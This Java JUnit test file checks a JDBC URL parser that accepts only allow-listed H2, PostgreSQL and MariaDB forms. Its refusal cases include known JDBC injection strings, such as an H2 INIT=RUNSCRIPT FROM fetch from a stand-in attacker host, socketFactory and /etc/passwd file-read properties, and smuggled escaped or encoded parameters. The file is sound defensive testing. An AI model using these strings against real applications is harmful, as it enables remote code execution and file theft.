package dev.tminus.source;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.tminus.source.Address.Refused;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class AddressTest {

    @ParameterizedTest
    @CsvSource(
            textBlock =
                    """
                    jdbc:h2:tcp://127.0.0.1:9123/field-qa,              H2,         jdbc:h2:tcp://127.0.0.1:9123/field-qa
                    jdbc:h2:tcp://db/~/data/field,                      H2,         jdbc:h2:tcp://db:9092/~/data/field
                    jdbc:h2:tcp://db/mem:field,                         H2,         jdbc:h2:tcp://db:9092/mem:field
                    jdbc:h2:ssl://DB.example.test/field;SCHEMA=app,     H2,         jdbc:h2:ssl://db.example.test:9092/field
                    jdbc:postgresql://db/field,                         POSTGRESQL, jdbc:postgresql://db:5432/field
                    jdbc:postgresql://[::1]:5433/field?sslmode=require, POSTGRESQL, jdbc:postgresql://[::1]:5433/field
                    jdbc:mariadb://db_1:3307/field?sslMode=verify-full, MARIADB,    jdbc:mariadb://db_1:3307/field
                    """)
    void takesApartAndPutsTogetherAgain(String jdbc, Product product, String url) throws Refused {
        var address = Address.parse(jdbc);

        assertThat(address.product()).isEqualTo(product);
        assertThat(address.url()).isEqualTo(url);
    }

    @Test
    void keepsOnlyListedProperties() throws Refused {
        var address = Address.parse("jdbc:postgresql://db/x?sslmode=disable&currentSchema=app");

        assertThat(address.options())
                .isEqualTo(Map.of("sslmode", "disable", "currentSchema", "app"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:h2:mem:x",
                "jdbc:h2:file:/tmp/x",
                "jdbc:h2:~/x",
                "jdbc:h2:zip:/tmp/x.zip!/x",
                "jdbc:h2:nio:/tmp/x",
                "JDBC:H2:TCP://db/x",
                "jdbc:H2:tcp://db/x",
                " jdbc:h2:tcp://db/x",
                "jdbc:h2:tcp://db/x\n",
                "jdbc:h2:tcp://db/../../etc/x",
                "jdbc:h2:tcp://db/a\\;INIT=RUNSCRIPT FROM 'http://evil.test/x'",
                "jdbc:h2:tcp://db/x%3BINIT=x",
                "jdbc:h2:tcp://db,other/x",
                "jdbc:h2:tcp://user:pass@db/x",
                "jdbc:h2:tcp://db:99999999/x",
                "jdbc:h2:tcp:///x",
                "jdbc:h2:tcp://db/",
                "jdbc:h2:tcp://db/x?INIT=x",
                "jdbc:postgresql:x",
                "jdbc:postgresql:///x",
                "jdbc:postgresql://a,b/x",
                "jdbc:postgresql://a:1,b:2/x",
                "jdbc:postgresql://db/x;socketFactory=a",
                "jdbc:postgresql://db/%78",
                "jdbc:postgresql://db",
                "jdbc:pgsql://db/x",
                "jdbc:mariadb:replication://a,b/x",
                "jdbc:mariadb://address=(host=db)(user=x)/x",
                "jdbc:mysql://db/x",
                "jdbc:mariadb://db/x#?sslMode=trust",
                "jdbc:sqlite:/tmp/x",
                ""
            })
    void refusesEveryOtherForm(String jdbc) {
        assertThatThrownBy(() -> Address.parse(jdbc))
                .isInstanceOfSatisfying(
                        Refused.class,
                        e ->
                                assertThat(e.because(jdbc))
                                        .isEqualTo("it has none of the known forms"));
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            textBlock =
                    """
                    jdbc:h2:tcp://db/x;INIT=RUNSCRIPT FROM 'http://e.test/x' | INIT
                    jdbc:h2:tcp://db/x;SCHEMA=a;init=select 1                | init
                    jdbc:h2:tcp://db/x;schema=a                              | schema
                    jdbc:h2:tcp://db/x;TRACE_LEVEL_FILE=4                    | TRACE_LEVEL_FILE
                    jdbc:h2:tcp://db/x;USER=sa                               | USER
                    jdbc:h2:tcp://db/x;PASSWORD=x                            | PASSWORD
                    jdbc:h2:tcp://db/x;AUTHREALM=x                           | AUTHREALM
                    jdbc:h2:tcp://db/x;CIPHER=AES                            | CIPHER
                    jdbc:h2:tcp://db/x;MODE=MySQL                            | MODE
                    jdbc:h2:tcp://db/x;IFEXISTS=TRUE;FORBID_CREATION=FALSE   | FORBID_CREATION
                    jdbc:h2:tcp://db/x; INIT=x                               | ' INIT'
                    jdbc:h2:tcp://db/x;IN\\;IT=x                             | 'IN\\'
                    jdbc:postgresql://db/x?socketFactory=java.lang.String    | socketFactory
                    jdbc:postgresql://db/x?sslmode=disable&socketFactoryArg=/etc/passwd | socketFactoryArg
                    jdbc:postgresql://db/x?loggerFile=/tmp/x                 | loggerFile
                    jdbc:postgresql://db/x?loggerLevel=TRACE                 | loggerLevel
                    jdbc:postgresql://db/x?sslfactory=a.B                    | sslfactory
                    jdbc:postgresql://db/x?sslfactoryarg=a                   | sslfactoryarg
                    jdbc:postgresql://db/x?sslpasswordcallback=a             | sslpasswordcallback
                    jdbc:postgresql://db/x?sslhostnameverifier=a             | sslhostnameverifier
                    jdbc:postgresql://db/x?authenticationPluginClassName=a   | authenticationPluginClassName
                    jdbc:postgresql://db/x?jaasApplicationName=a             | jaasApplicationName
                    jdbc:postgresql://db/x?xmlFactoryFactory=a               | xmlFactoryFactory
                    jdbc:postgresql://db/x?options=-c%20a=b                  | options
                    jdbc:postgresql://db/x?PGHOST=evil.test                  | PGHOST
                    jdbc:postgresql://db/x?user=a                            | user
                    jdbc:postgresql://db/x?password=a                        | password
                    jdbc:postgresql://db/x?service=a                         | service
                    jdbc:postgresql://db/x?SSLMODE=disable                   | SSLMODE
                    jdbc:postgresql://db/x?ssl%6Dode=disable                 | ssl%6Dode
                    jdbc:mariadb://db/x?allowLocalInfile=true                | allowLocalInfile
                    jdbc:mariadb://db/x?allowMultiQueries=true               | allowMultiQueries
                    jdbc:mariadb://db/x?initSql=drop                         | initSql
                    jdbc:mariadb://db/x?sessionVariables=sql_mode=x          | sessionVariables
                    jdbc:mariadb://db/x?credentialType=ENV                   | credentialType
                    jdbc:mariadb://db/x?tlsSocketType=x                      | tlsSocketType
                    jdbc:mariadb://db/x?socketFactory=a                      | socketFactory
                    jdbc:mariadb://db/x?serverSslCert=/etc/passwd            | serverSslCert
                    jdbc:mariadb://db/x?serverRsaPublicKeyFile=/etc/passwd   | serverRsaPublicKeyFile
                    jdbc:mariadb://db/x?trustStore=/etc/passwd               | trustStore
                    jdbc:mariadb://db/x?localSocket=/tmp/s                   | localSocket
                    jdbc:mariadb://db/x?geometryDefaultType=a                | geometryDefaultType
                    """)
    void refusesEveryPropertyThatIsNotListed(String jdbc, String property) {
        assertThatThrownBy(() -> Address.parse(jdbc))
                .isInstanceOfSatisfying(
                        Refused.class,
                        e ->
                                assertThat(e.because(jdbc))
                                        .startsWith("it sets " + property + " and only ")
                                        .endsWith(" may be set"));
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            textBlock =
                    """
                    jdbc:h2:tcp://db/x;SCHEMA=a\\b              | its SCHEMA has a value that is not allowed
                    jdbc:h2:tcp://db/x;SCHEMA=a=b               | its SCHEMA has a value that is not allowed
                    jdbc:h2:tcp://db/x;IFEXISTS=FALSE           | its IFEXISTS has a value that is not allowed
                    jdbc:h2:tcp://db/x;SCHEMA=a;SCHEMA=b        | it sets SCHEMA twice
                    jdbc:h2:tcp://db/x;;SCHEMA=a                | it sets a property and only IFEXISTS and SCHEMA may be set
                    jdbc:h2:tcp://db:0/x                        | its port is not between 1 and 65535
                    jdbc:h2:tcp://db:70000/x                    | its port is not between 1 and 65535
                    jdbc:postgresql://db/x?                     |
                    jdbc:postgresql://db/x?sslmode=trust        | its sslmode has a value that is not allowed
                    jdbc:postgresql://db/x?sslmode=a&sslmode=b  | its sslmode has a value that is not allowed
                    jdbc:postgresql://db/x?currentSchema=a,,b    | its currentSchema has a value that is not allowed
                    """)
    void refusesValuesThatAreNotListed(String jdbc, String problem) throws Refused {
        if (problem == null) {
            assertThat(Address.parse(jdbc).options()).isEmpty();
            return;
        }
        assertThatThrownBy(() -> Address.parse(jdbc))
                .isInstanceOfSatisfying(
                        Refused.class, e -> assertThat(e.because(jdbc)).isEqualTo(problem));
    }

    @Test
    void doesNotNameWhatCameOutOfASecret() {
        assertThatThrownBy(() -> Address.parse("jdbc:h2:tcp://db/x;hunter2=x"))
                .isInstanceOfSatisfying(
                        Refused.class,
                        e ->
                                assertThat(e.because("${TMINUS_SECRET_URL}"))
                                        .isEqualTo(
                                                "it sets a property and only IFEXISTS and SCHEMA"
                                                        + " may be set"));
    }
}
